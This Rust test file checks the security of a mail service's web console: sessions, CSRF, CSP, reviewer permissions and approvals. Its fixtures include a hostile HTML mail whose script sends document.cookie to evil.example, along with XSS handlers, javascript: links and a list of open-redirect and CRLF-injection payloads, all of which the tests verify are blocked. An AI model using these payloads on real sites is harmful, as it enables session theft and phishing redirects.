//! HTTP tests of the console through the real router on a real SQLite file, without sockets
//! (`Router::oneshot`), composed with the REST router as `loft serve` composes them: sign-in
//! and sessions, CSRF, the CSP, reviewers kept off operator pages, hostile HTML mail made
//! inert, and the approval flow.

#![allow(clippy::unwrap_used, clippy::missing_panics_doc, reason = "tests")]

use std::sync::Arc;

use axum::Router;
use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use loft_core::keys::Scope;
use loft_core::mail::SendMail;
use loft_core::service::{Actor, CreateIdentityRequest, ListMessagesParams};
use loft_testkit::TestLoft;
use tower::ServiceExt;

struct App {
    router: Router,
    t: TestLoft,
    _dir: tempfile::TempDir,
}

struct Resp {
    status: StatusCode,
    headers: axum::http::HeaderMap,
    text: String,
}

impl Resp {
    fn location(&self) -> &str {
        self.headers
            .get(header::LOCATION)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
    }
}

async fn app_with(secure: bool) -> App {
    let dir = tempfile::tempdir().unwrap();
    let store = loft_store_sqlite::SqliteStore::open(&dir.path().join("loft.db"))
        .await
        .unwrap();
    let t = loft_testkit::test_loft(Arc::new(store));
    let state = loft_web::AppState {
        loft: t.loft.clone(),
        config: Arc::new(loft_web::WebConfig::default()),
    };
    let router = loft_web::router(state).merge(loft_console::router(
        t.loft.clone(),
        loft_console::ConsoleConfig { secure_cookies: secure },
    ));
    App { router, t, _dir: dir }
}

async fn app() -> App {
    app_with(false).await
}

impl App {
    async fn call(&self, method: Method, path: &str, cookie: Option<&str>, form: Option<&[(&str, &str)]>) -> Resp {
        let mut req = Request::builder().method(method).uri(path);
        if let Some(c) = cookie {
            req = req.header(header::COOKIE, format!("loft_session={c}"));
        }
        let body = match form {
            Some(f) => {
                req = req.header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
                Body::from(serde_urlencoded::to_string(f).unwrap())
            }
            None => Body::empty(),
        };
        self.send(req.body(body).unwrap()).await
    }

    async fn send(&self, req: Request<Body>) -> Resp {
        let res = self.router.clone().oneshot(req).await.unwrap();
        let status = res.status();
        let headers = res.headers().clone();
        let bytes = axum::body::to_bytes(res.into_body(), usize::MAX).await.unwrap();
        Resp {
            status,
            headers,
            text: String::from_utf8_lossy(&bytes).into_owned(),
        }
    }

    async fn get(&self, path: &str, cookie: &str) -> Resp {
        self.call(Method::GET, path, Some(cookie), None).await
    }

    async fn post(&self, path: &str, cookie: &str, form: &[(&str, &str)]) -> Resp {
        self.call(Method::POST, path, Some(cookie), Some(form)).await
    }

    /// Signs in with `form`; answers the session token.
    async fn sign_in(&self, form: &[(&str, &str)]) -> String {
        let r = self.call(Method::POST, "/sign-in", None, Some(form)).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text);
        let cookie = r.headers.get(header::SET_COOKIE).unwrap().to_str().unwrap();
        cookie
            .split(';')
            .next()
            .unwrap()
            .strip_prefix("loft_session=")
            .unwrap()
            .to_owned()
    }

    async fn operator(&self) -> String {
        let key = self.t.operator_key.clone();
        self.sign_in(&[("method", "operator"), ("key", &key)]).await
    }

    /// A reviewer with a console password; answers its session token.
    async fn reviewer(&self) -> String {
        let (alice, _) = self
            .t
            .identity_with(CreateIdentityRequest {
                name: "alice".into(),
                scopes: Some(Scope::REVIEWER.iter().map(|s| s.as_str().to_owned()).collect()),
                ..Default::default()
            })
            .await;
        let op = self.t.operator().await;
        let invite = self
            .t
            .loft
            .console_invite(&op, alice.identity.id.as_str())
            .await
            .unwrap();
        let path = format!("/invite/{}", invite.token);
        let page = self.call(Method::GET, &path, None, None).await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(page.text.contains(alice.identity.address.as_str()));
        let pw = "reviewer password 1";
        let set = self
            .call(Method::POST, &path, None, Some(&[("password", pw), ("confirm", pw)]))
            .await;
        assert_eq!(set.status, StatusCode::OK, "{}", set.text);
        // The link works once.
        let again = self.call(Method::GET, &path, None, None).await;
        assert_eq!(again.status, StatusCode::NOT_FOUND);
        self.sign_in(&[
            ("method", "password"),
            ("address", alice.identity.address.as_str()),
            ("password", pw),
        ])
        .await
    }
}

fn csrf_of(token: &str) -> String {
    loft_core::console::csrf_token(token)
}

/// An identity in `gated_send` (the test Loft's default is `autonomous`).
async fn gated(t: &TestLoft, name: &str) -> Actor {
    t.identity_with(CreateIdentityRequest {
        name: name.into(),
        oversight_mode: Some(loft_core::oversight::OversightMode::GatedSend),
        ..Default::default()
    })
    .await
    .1
}

async fn send(t: &TestLoft, from: &Actor, to: &str, subject: &str, text: &str, html: Option<&str>) -> String {
    let m = t
        .loft
        .send(
            from,
            SendMail {
                to: vec![to.into()],
                subject: subject.into(),
                text: text.into(),
                html: html.map(str::to_owned),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    m.approval.unwrap().id.to_string()
}

#[tokio::test]
async fn pages_carry_a_strict_csp_and_no_inline_script_or_style() {
    let a = app().await;
    let page = a.call(Method::GET, "/sign-in", None, None).await;
    assert_eq!(page.status, StatusCode::OK);
    let csp = page
        .headers
        .get(header::CONTENT_SECURITY_POLICY)
        .unwrap()
        .to_str()
        .unwrap();
    assert!(
        csp.contains("script-src 'self'") && csp.contains("style-src 'self'"),
        "{csp}"
    );
    assert!(!csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"), "{csp}");
    assert!(csp.contains("frame-ancestors 'none'"));
    assert_eq!(page.headers.get(header::X_FRAME_OPTIONS).unwrap(), "DENY");
    let op = a.operator().await;
    for path in ["/sign-in", "/approvals", "/identities", "/audit"] {
        let p = a.get(path, &op).await;
        assert_eq!(p.status, StatusCode::OK, "{path}");
        let html = p.text.to_ascii_lowercase();
        // Every <script> has a src; no style element or attribute; no inline handler.
        assert_eq!(
            html.matches("<script").count(),
            html.matches("<script src=\"/assets/").count(),
            "{path}"
        );
        assert!(
            !html.contains("<style") && !html.contains(" style=") && !html.contains(" onclick="),
            "{path}"
        );
    }
    // The vendored htmx and its licence are served from the binary.
    let js = a.call(Method::GET, "/assets/htmx.min.js", None, None).await;
    assert_eq!(js.status, StatusCode::OK);
    assert!(js.text.contains("htmx"));
    let lic = a.call(Method::GET, "/assets/htmx-LICENSE.txt", None, None).await;
    assert!(lic.text.contains("BSD"));
}

#[tokio::test]
async fn session_cookie_is_httponly_strict_and_secure_behind_https() {
    for secure in [false, true] {
        let a = app_with(secure).await;
        let key = a.t.operator_key.clone();
        let r = a
            .call(
                Method::POST,
                "/sign-in",
                None,
                Some(&[("method", "operator"), ("key", &key)]),
            )
            .await;
        let cookie = r.headers.get(header::SET_COOKIE).unwrap().to_str().unwrap();
        assert!(
            cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
            "{cookie}"
        );
        assert_eq!(cookie.contains("Secure"), secure, "{cookie}");
        assert!(!cookie.contains(&key));
    }
    // A wrong key: 401 with the form again, no cookie.
    let a = app().await;
    let r = a
        .call(
            Method::POST,
            "/sign-in",
            None,
            Some(&[("method", "operator"), ("key", "wrong-wrong-wrong-wrong-wrong")]),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert!(r.headers.get(header::SET_COOKIE).is_none());
    // Pages need a session.
    let r = a.call(Method::GET, "/approvals", None, None).await;
    assert_eq!(
        (r.status, r.location()),
        (StatusCode::SEE_OTHER, "/sign-in?next=%2Fapprovals")
    );
    let r = a.get("/approvals", "lcs_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa").await;
    assert_eq!(
        (r.status, r.location()),
        (StatusCode::SEE_OTHER, "/sign-in?next=%2Fapprovals")
    );
}

#[tokio::test]
async fn state_changes_need_the_csrf_token_and_this_origin() {
    let a = app().await;
    let op = a.operator().await;
    let csrf = csrf_of(&op);
    let frozen = || async { a.t.loft.store().outgoing_frozen().await.unwrap().is_some() };
    for form in [
        vec![],
        vec![("csrf", "0".repeat(64))],
        vec![("csrf", csrf_of("lcs_other"))],
    ] {
        let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let r = a.post("/instance/freeze", &op, &form).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{form:?}");
        assert!(!frozen().await);
    }
    // From another site, even with the token: refused.
    let req = Request::builder()
        .method(Method::POST)
        .uri("/instance/freeze")
        .header(header::COOKIE, format!("loft_session={op}"))
        .header(header::HOST, "127.0.0.1:7070")
        .header(header::ORIGIN, "https://evil.example")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(format!("csrf={csrf}")))
        .unwrap();
    assert_eq!(a.send(req).await.status, StatusCode::FORBIDDEN);
    assert!(!frozen().await);
    // With it, from here: done, and the banner shows on every page.
    let r = a.post("/instance/freeze", &op, &[("csrf", &csrf)]).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert!(frozen().await);
    for path in ["/approvals", "/identities", "/audit"] {
        assert!(
            a.get(path, &op).await.text.contains("Outgoing mail is frozen"),
            "{path}"
        );
    }
    a.post("/instance/unfreeze", &op, &[("csrf", &csrf)]).await;
    assert!(!frozen().await);
    // Sign-out needs it too.
    assert_eq!(a.post("/sign-out", &op, &[]).await.status, StatusCode::FORBIDDEN);
    assert_eq!(a.get("/approvals", &op).await.status, StatusCode::OK);
}

#[tokio::test]
async fn a_session_cookie_does_not_authenticate_the_rest_api() {
    let a = app().await;
    let op = a.operator().await;
    for path in ["/v0/identities", "/v0/approvals", "/v0/audit", "/v0/instance"] {
        let r = a.get(path, &op).await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED, "{path}: {}", r.text);
    }
    let r = a.post("/v0/instance/freeze", &op, &[("csrf", &csrf_of(&op))]).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert!(a.t.loft.store().outgoing_frozen().await.unwrap().is_none());
}

#[tokio::test]
async fn reviewers_see_approvals_and_audit_only() {
    let a = app().await;
    let rv = a.reviewer().await;
    let csrf = csrf_of(&rv);
    for path in ["/approvals", "/audit"] {
        assert_eq!(a.get(path, &rv).await.status, StatusCode::OK, "{path}");
    }
    let page = a.get("/approvals", &rv).await.text;
    assert!(!page.contains("href=\"/identities\""), "no link to operator pages");
    let (_, agent) = a.t.identity("agent").await;
    let agent_id = agent.identity().unwrap().id.to_string();
    for path in ["/identities".to_owned(), format!("/identities/{agent_id}/revoke")] {
        assert_eq!(a.get(&path, &rv).await.status, StatusCode::FORBIDDEN, "{path}");
    }
    for path in [
        "/instance/freeze".to_owned(),
        "/identities".to_owned(),
        format!("/identities/{agent_id}/revoke"),
    ] {
        let r = a
            .post(
                &path,
                &rv,
                &[("csrf", &csrf), ("name", "x"), ("oversight_mode", "autonomous")],
            )
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{path}");
    }
    assert!(a.t.loft.store().outgoing_frozen().await.unwrap().is_none());
    assert!(
        a.t.loft
            .get_identity(&a.t.operator().await, &agent_id)
            .await
            .unwrap()
            .is_active()
    );
    // The audit page verifies nothing for a reviewer (the operator's).
    assert_eq!(
        a.post("/audit/verify", &rv, &[("csrf", &csrf)]).await.status,
        StatusCode::FORBIDDEN
    );
    // A freeze shows to reviewers too (it refuses their approvals), without the operator's button.
    a.t.loft.set_frozen(&a.t.operator().await, true).await.unwrap();
    let page = a.get("/approvals", &rv).await.text;
    assert!(page.contains("Outgoing mail is frozen") && !page.contains("/instance/unfreeze"));
}

#[tokio::test]
async fn hostile_html_mail_is_rendered_inert() {
    let a = app().await;
    let op = a.operator().await;
    let agent = gated(&a.t, "agent").await;
    let (reader, _) = a.t.identity("reader").await;
    let html = r#"<p onmouseover="alert(1)">Quarterly numbers</p>
        <script>fetch('https://evil.example/?c='+document.cookie)</script>
        <img src="https://tracker.example/open.gif" onerror="alert(2)">
        <a href="javascript:alert(3)">open the report</a>
        <a href="https://phish.example/login">https://bank.example/login</a>"#;
    let id = send(
        &a.t,
        &agent,
        reader.identity.address.as_str(),
        "Numbers",
        "see html",
        Some(html),
    )
    .await;
    let page = a.get(&format!("/approvals/{id}"), &op).await;
    assert_eq!(page.status, StatusCode::OK);
    let body = page.text.to_ascii_lowercase();
    let mail = &body[body.find("class=\"mailhtml\"").unwrap()..];
    let mail = &mail[..mail.find("</div>").unwrap()];
    for bad in [
        "<script",
        "onmouseover",
        "onerror",
        "javascript:",
        "tracker.example",
        "evil.example",
    ] {
        assert!(!mail.contains(bad), "{bad} in {mail}");
    }
    assert!(mail.contains("quarterly numbers"));
    assert!(body.contains("1 remote image(s) not loaded"));
    // The link's real target is shown as text.
    assert!(body.contains("<code>https://phish.example/login</code>"));
}

#[tokio::test]
async fn reviewers_edit_approve_and_reject_from_the_console() {
    let a = app().await;
    let rv = a.reviewer().await;
    let csrf = csrf_of(&rv);
    let researcher = gated(&a.t, "researcher").await;
    let (writer, writer_actor) =
        a.t.identity_with(CreateIdentityRequest {
            name: "writer".into(),
            oversight_mode: Some(loft_core::oversight::OversightMode::Autonomous),
            ..Default::default()
        })
        .await;
    let to = writer.identity.address.as_str();
    let first = send(&a.t, &researcher, to, "Brief", "Line one\nLine two\n", None).await;
    let second = send(&a.t, &researcher, to, "Leak", "the secret plan\n", None).await;

    // The queue (and its live fragment) lists both; oldest first puts the brief first.
    let q = a.get("/approvals/queue?order=oldest", &rv).await.text;
    assert!(q.find("Brief").unwrap() < q.find("Leak").unwrap());
    let q = a.get("/approvals?order=newest", &rv).await.text;
    assert!(q.find("Leak").unwrap() < q.find("Brief").unwrap());
    assert!(q.contains("hx-get=\"/approvals/queue?"));

    let r = a
        .post(
            &format!("/approvals/{first}/edit"),
            &rv,
            &[
                ("csrf", &csrf),
                ("subject", "Brief"),
                ("text", "Line one\r\nLine two, edited\r\n"),
                ("then", "approve"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text);
    let r = a
        .post(
            &format!("/approvals/{second}/reject"),
            &rv,
            &[("csrf", &csrf), ("reason", "no plans by mail")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text);

    // The writer has the edited mail, and only it.
    let inbox =
        a.t.loft
            .list_messages(&writer_actor, ListMessagesParams::default())
            .await
            .unwrap();
    assert_eq!(inbox.items.len(), 1);
    let m =
        a.t.loft
            .get_message(&writer_actor, inbox.items[0].id.as_str())
            .await
            .unwrap();
    assert_eq!(m.text, "Line one\nLine two, edited\n");
    // The researcher sees the rejection and its reason.
    let shown = a.get(&format!("/approvals/{second}"), &rv).await.text;
    assert!(shown.contains("rejected") && shown.contains("no plans by mail"));
    let audit = a.get("/audit?action=approval.", &rv).await.text;
    assert!(audit.contains("approval.approve") && audit.contains("approval.reject") && audit.contains("approval.edit"));
}

#[tokio::test]
async fn sessions_end_at_sign_out_and_at_expiry() {
    let a = app().await;
    let op = a.operator().await;
    let r = a.post("/sign-out", &op, &[("csrf", &csrf_of(&op))]).await;
    assert_eq!((r.status, r.location()), (StatusCode::SEE_OTHER, "/sign-in"));
    assert!(
        r.headers
            .get(header::SET_COOKIE)
            .unwrap()
            .to_str()
            .unwrap()
            .contains("Max-Age=0")
    );
    assert_eq!(a.get("/approvals", &op).await.location(), "/sign-in?next=%2Fapprovals");

    let op = a.operator().await;
    a.t.clock.advance_secs(loft_core::console::SESSION_TTL_SECS - 1);
    assert_eq!(a.get("/approvals", &op).await.status, StatusCode::OK);
    a.t.clock.advance_secs(1);
    assert_eq!(a.get("/approvals", &op).await.location(), "/sign-in?next=%2Fapprovals");
    // An htmx poll of an ended session is told to load the sign-in page.
    let req = Request::builder()
        .uri("/approvals/queue")
        .header(header::COOKIE, format!("loft_session={op}"))
        .header("hx-request", "true")
        .body(Body::empty())
        .unwrap();
    let r = a.send(req).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert_eq!(r.headers.get("hx-redirect").unwrap(), "/sign-in");
}

#[tokio::test]
async fn the_operator_creates_and_revokes_identities_with_a_confirmation() {
    let a = app().await;
    let op = a.operator().await;
    let csrf = csrf_of(&op);
    let r = a
        .post(
            "/identities",
            &op,
            &[("csrf", &csrf), ("name", "lead"), ("oversight_mode", "gated_send")],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert!(r.text.contains("loft_sk_"), "the key is shown once");
    let opa = a.t.operator().await;
    let lead =
        a.t.loft
            .list_identities(&opa, loft_core::service::ListIdentitiesParams::default())
            .await
            .unwrap()
            .items
            .into_iter()
            .find(|i| i.name == "lead")
            .unwrap();
    let key = r.text.split("value=\"").find(|s| s.starts_with("loft_sk_")).unwrap();
    let key = &key[..key.find('"').unwrap()];
    let lead_actor = a.t.actor(key).await;
    // A sub-identity below it (the operator grants identity:create first).
    a.t.loft
        .update_identity(
            &opa,
            lead.id.as_str(),
            loft_core::service::UpdateIdentityRequest {
                scopes: Some(
                    ["mail:read", "mail:send", "keys:manage", "identity:create"]
                        .map(String::from)
                        .to_vec(),
                ),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let lead_actor = a.t.loft.reauthenticate(&lead_actor).await.unwrap();
    let (helper, _) = a.t.child(&lead_actor, "helper", None).await;
    let tree = a.get("/identities", &op).await.text;
    assert!(tree.contains("lead") && tree.contains("helper"));
    let confirm = a.get(&format!("/identities/{}/revoke", lead.id), &op).await.text;
    assert!(
        confirm.contains("helper") && confirm.contains("Revoke 2 identities"),
        "{confirm}"
    );
    let r = a
        .post(&format!("/identities/{}/revoke", lead.id), &op, &[("csrf", &csrf)])
        .await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(r.text.contains(helper.identity.id.as_str()));
    // Its key is refused at once.
    let refused =
        a.t.loft
            .authenticate(Some(key), loft_core::service::RequestContext::default())
            .await;
    assert!(refused.is_err());
    // The audit page verifies the chain and shows the head.
    let v = a.post("/audit/verify", &op, &[("csrf", &csrf)]).await;
    assert!(v.text.contains("The chain verifies"), "{}", v.text);
    assert!(v.text.contains("Head hash"));
}

/// The reviewer's identity and its actor, from [`App::reviewer`]'s session.
async fn session_actor(a: &App, token: &str) -> Actor {
    a.t.loft
        .console_session(token, loft_core::service::RequestContext::default())
        .await
        .unwrap()
        .actor
}

#[tokio::test]
async fn a_deep_link_survives_sign_in_and_next_stays_on_this_server() {
    let a = app().await;
    // Signed out, an approval's page sends to sign-in with the way back...
    let r = a.call(Method::GET, "/approvals/apr_x1?from=mail", None, None).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert_eq!(r.location(), "/sign-in?next=%2Fapprovals%2Fapr_x1%3Ffrom%3Dmail");
    // ... which the sign-in page carries in both forms ...
    let page = a.call(Method::GET, r.location(), None, None).await;
    assert_eq!(
        page.text
            .matches(r#"name="next" value="/approvals/apr_x1?from=mail""#)
            .count(),
        2
    );
    // ... and signing in lands there.
    let key = a.t.operator_key.clone();
    let form = [
        ("method", "operator"),
        ("key", key.as_str()),
        ("next", "/approvals/apr_x1?from=mail"),
    ];
    let r = a.call(Method::POST, "/sign-in", None, Some(&form)).await;
    assert_eq!(
        (r.status, r.location()),
        (StatusCode::SEE_OTHER, "/approvals/apr_x1?from=mail")
    );
    // A failed sign-in keeps it for the next try.
    let bad = [
        ("method", "operator"),
        ("key", "wrong-wrong-wrong-wrong-wrong"),
        ("next", "/audit"),
    ];
    let r = a.call(Method::POST, "/sign-in", None, Some(&bad)).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    assert!(r.text.contains(r#"name="next" value="/audit""#));

    // Anywhere else: no open redirect. The page drops it, and sign-in goes home.
    for evil in [
        "//evil.example",
        "//evil.example/approvals",
        "/\\evil.example",
        "/\\/evil.example",
        "\\\\evil.example",
        "https://evil.example/",
        "http:/evil.example",
        "javascript:alert(1)",
        "evil.example",
        " /approvals",
        "/approvals\r\nSet-Cookie: a=b",
    ] {
        let q = serde_urlencoded::to_string([("next", evil)]).unwrap();
        let page = a.call(Method::GET, &format!("/sign-in?{q}"), None, None).await;
        assert_eq!(page.status, StatusCode::OK, "{evil:?}");
        assert!(!page.text.contains(r#"name="next""#), "{evil:?}");
        let form = [("method", "operator"), ("key", key.as_str()), ("next", evil)];
        let r = a.call(Method::POST, "/sign-in", None, Some(&form)).await;
        assert_eq!(
            (r.status, r.location()),
            (StatusCode::SEE_OTHER, "/approvals"),
            "{evil:?}"
        );
    }
}

#[tokio::test]
async fn several_held_mails_are_decided_at_once_each_on_its_own() {
    let a = app().await;
    let rv = a.reviewer().await;
    let csrf = csrf_of(&rv);
    let researcher = gated(&a.t, "researcher").await;
    let (writer, _) = a.t.identity("writer").await;
    let to = writer.identity.address.as_str();
    let one = send(&a.t, &researcher, to, "One", "1", None).await;
    let two = send(&a.t, &researcher, to, "Two", "2", None).await;
    let taken = send(&a.t, &researcher, to, "Taken", "3", None).await;
    let status = |id: String| {
        let t = &a.t;
        async move {
            let op = t.operator().await;
            t.loft
                .get_approval(&op, &id)
                .await
                .unwrap()
                .approval
                .status
                .as_str()
                .to_owned()
        }
    };

    // The queue has a named checkbox per pending mail, in the bulk form.
    let q = a.get("/approvals", &rv).await.text;
    assert!(q.contains(r#"id="bulk""#) && q.contains(r#"action="/approvals/decide""#));
    assert!(q.contains(&format!(r#"name="id" value="{one}" form="bulk""#)), "{q}");
    assert!(q.contains("aria-label=\"Select “One” from "));
    assert!(q.contains(">Approve selected<") && q.contains(">Reject selected with the reason<"));

    // Someone else decides one meanwhile.
    let op = a.t.operator().await;
    a.t.loft
        .reject(&op, &taken, loft_core::service::RejectRequest { reason: "no".into() })
        .await
        .unwrap();

    // Without the CSRF token: refused, nothing decided.
    let ids = [("id", one.as_str()), ("id", two.as_str()), ("id", taken.as_str())];
    let mut form: Vec<(&str, &str)> = ids.to_vec();
    form.push(("decision", "approve"));
    let r = a.post("/approvals/decide", &rv, &form).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert_eq!(status(one.clone()).await, "pending");

    // With it: two approved, the third reported with why.
    form.push(("csrf", &csrf));
    let r = a.post("/approvals/decide", &rv, &form).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert!(r.text.contains("2 of 3 approved"), "{}", r.text);
    assert!(r.text.contains("1 could not be"));
    assert_eq!(r.text.matches("not done: ").count(), 1, "{}", r.text);
    assert_eq!(status(one.clone()).await, "approved");
    assert_eq!(status(two.clone()).await, "approved");
    assert_eq!(status(taken.clone()).await, "rejected");
    // Each decision audited on its own, as the reviewer.
    let reviewer = session_actor(&a, &rv).await;
    let me = reviewer.identity().unwrap().id.clone();
    let rows = a.t.audit_rows().await;
    let approvals: Vec<_> = rows
        .iter()
        .filter(|r| r.entry.action == "approval.approve" && r.entry.actor_identity_id.as_ref() == Some(&me))
        .filter_map(|r| r.entry.target.clone())
        .collect();
    assert_eq!(approvals, [one.clone(), two.clone()]);

    // Rejecting needs a reason; an empty selection or an unknown decision is refused.
    let three = send(&a.t, &researcher, to, "Three", "3", None).await;
    for (form, why) in [
        (
            vec![("id", three.as_str()), ("decision", "reject"), ("reason", " ")],
            "needs a reason",
        ),
        (vec![("decision", "approve")], "No mail was selected"),
        (vec![("id", three.as_str()), ("decision", "maybe")], "approve or reject"),
    ] {
        let mut form = form;
        form.push(("csrf", &csrf));
        let r = a.post("/approvals/decide", &rv, &form).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{form:?}");
        assert!(r.text.contains(why), "{}", r.text);
    }
    assert_eq!(status(three.clone()).await, "pending");
    let form = [
        ("csrf", csrf.as_str()),
        ("id", three.as_str()),
        ("decision", "reject"),
        ("reason", "not now"),
    ];
    let r = a.post("/approvals/decide", &rv, &form).await;
    assert!(r.text.contains("1 of 1 rejected"), "{}", r.text);
    let shown = a.get(&format!("/approvals/{three}"), &rv).await.text;
    assert!(shown.contains("rejected") && shown.contains("not now"));
    // All of a batch refused: 409.
    let r = a.post("/approvals/decide", &rv, &form).await;
    assert_eq!(r.status, StatusCode::CONFLICT);
}

#[tokio::test]
async fn a_held_mail_shows_the_earlier_mail_of_its_own_thread_only() {
    let a = app().await;
    let rv = a.reviewer().await;
    let (agent, agent_actor) =
        a.t.identity_with(CreateIdentityRequest {
            name: "agent".into(),
            oversight_mode: Some(loft_core::oversight::OversightMode::GatedSend),
            ..Default::default()
        })
        .await;
    let (_, vendor) = a.t.identity("vendor").await;
    let to = [agent.identity.address.as_str()];
    a.t.send(
        &vendor,
        &to,
        "Invoice 42",
        "Please pay <script>alert(1)</script> invoice 42.",
    )
    .await;
    a.t.send(&vendor, &to, "Other thread", "An unrelated secret.").await;
    let inbox = a.t.all_messages(&agent_actor, ListMessagesParams::default()).await;
    let invoice = inbox.iter().find(|m| m.subject == "Invoice 42").unwrap();
    let held =
        a.t.loft
            .reply(
                &agent_actor,
                invoice.id.as_str(),
                loft_core::mail::ReplyMail {
                    text: "Paid.".into(),
                    ..Default::default()
                },
            )
            .await
            .unwrap();
    let id = held.approval.unwrap().id;
    let page = a.get(&format!("/approvals/{id}"), &rv).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains("Earlier in this thread"));
    assert!(
        page.text
            .contains("Please pay &lt;script&gt;alert(1)&lt;/script&gt; invoice 42."),
        "{}",
        page.text
    );
    assert!(!page.text.contains("<script>alert"));
    assert!(!page.text.contains("unrelated secret") && !page.text.contains("Other thread"));
}

#[tokio::test]
async fn reviewers_choose_held_mail_notices_by_mail() {
    let a = app().await;
    let rv = a.reviewer().await;
    let csrf = csrf_of(&rv);
    let reviewer = session_actor(&a, &rv).await;
    let own = reviewer.identity().unwrap().address.to_string();

    let page = a.get("/notifications", &rv).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains("Notices by mail are off") && page.text.contains("console_url"));
    // CSRF needed; another identity's address refused with why; the own address kept.
    let r = a
        .post("/notifications", &rv, &[("address", &own), ("then", "save")])
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let (other, _) = a.t.identity("other").await;
    let r = a
        .post(
            "/notifications",
            &rv,
            &[
                ("csrf", &csrf),
                ("address", other.identity.address.as_str()),
                ("then", "save"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.text.contains("another identity&#x27;s address") || r.text.contains("another identity's address"),
        "{}",
        r.text
    );
    let r = a
        .post(
            "/notifications",
            &rv,
            &[("csrf", &csrf), ("address", &own), ("then", "save")],
        )
        .await;
    assert_eq!((r.status, r.location()), (StatusCode::SEE_OTHER, "/notifications"));
    assert!(
        a.get("/notifications", &rv)
            .await
            .text
            .contains(&format!("Notices go to <strong>{own}</strong>"))
    );

    // A held mail: its notice has the subject, sender, reasons and the console link; never
    // the body, never a link that decides.
    let researcher = gated(&a.t, "researcher").await;
    let (writer, _) = a.t.identity("writer").await;
    let id = send(
        &a.t,
        &researcher,
        writer.identity.address.as_str(),
        "Figures",
        "THE BODY ITSELF",
        None,
    )
    .await;
    loft_core::runner::JobRunner::new(a.t.loft.clone(), "test")
        .run_due()
        .await
        .unwrap();
    let inbox = a.t.all_messages(&reviewer, ListMessagesParams::default()).await;
    let notice = inbox.iter().find(|m| m.subject == "Held for review: Figures").unwrap();
    let notice = a.t.loft.get_message(&reviewer, notice.id.as_str()).await.unwrap();
    assert!(
        notice
            .text
            .contains(&format!("{}/approvals/{id}", loft_testkit::TEST_CONSOLE_URL))
    );
    assert!(notice.text.contains("Why it is held") && notice.text.contains("From: researcher"));
    for never in ["THE BODY ITSELF", "/approve", "/reject", "/edit"] {
        assert!(!notice.text.contains(never), "{never}: {}", notice.text);
    }
    // The operator has no notices by mail (not an identity): the page says so.
    let op = a.operator().await;
    let page = a.get("/notifications", &op).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains("for reviewers"));
    // Turned off.
    let r = a.post("/notifications", &rv, &[("csrf", &csrf), ("then", "off")]).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert!(
        a.get("/notifications", &rv)
            .await
            .text
            .contains("Notices by mail are off")
    );
}

#[tokio::test]
async fn a_reviewer_confirms_an_outside_notice_address_with_the_code() {
    let a = app().await;
    let rv = a.reviewer().await;
    let csrf = csrf_of(&rv);
    let reviewer = session_actor(&a, &rv).await;
    let outside = "reviewer@corp.example";

    let r = a
        .post(
            "/notifications",
            &rv,
            &[("csrf", &csrf), ("address", outside), ("then", "save")],
        )
        .await;
    assert_eq!((r.status, r.location()), (StatusCode::SEE_OTHER, "/notifications"));
    let page = a.get("/notifications", &rv).await.text;
    assert!(page.contains("Notices by mail are off"), "not used before the code");
    assert!(
        page.contains(&format!("A code went to <strong>{outside}</strong>")),
        "{page}"
    );
    assert!(page.contains("autocomplete=\"one-time-code\""));

    // The code is in the mail queued to that address from the reviewer's own address.
    let sent =
        a.t.all_messages(
            &reviewer,
            ListMessagesParams {
                folder: Some("sent".into()),
                ..Default::default()
            },
        )
        .await;
    let mail = a.t.loft.get_message(&reviewer, sent[0].id.as_str()).await.unwrap();
    let code: String = mail.text.split("The code: ").nth(1).unwrap().chars().take(8).collect();

    // The confirm form needs its CSRF token; a wrong code says so; the right one switches.
    let r = a.post("/notifications/confirm", &rv, &[("code", &code)]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let wrong = if code == "00000000" { "00000001" } else { "00000000" };
    let r = a
        .post("/notifications/confirm", &rv, &[("csrf", &csrf), ("code", wrong)])
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text.contains("tries left"), "{}", r.text);
    let r = a
        .post("/notifications/confirm", &rv, &[("csrf", &csrf), ("code", &code)])
        .await;
    assert_eq!((r.status, r.location()), (StatusCode::SEE_OTHER, "/notifications"));
    let page = a.get("/notifications", &rv).await.text;
    assert!(
        page.contains(&format!("Notices go to <strong>{outside}</strong>")),
        "{page}"
    );
    assert!(!page.contains("A code went to"));
}
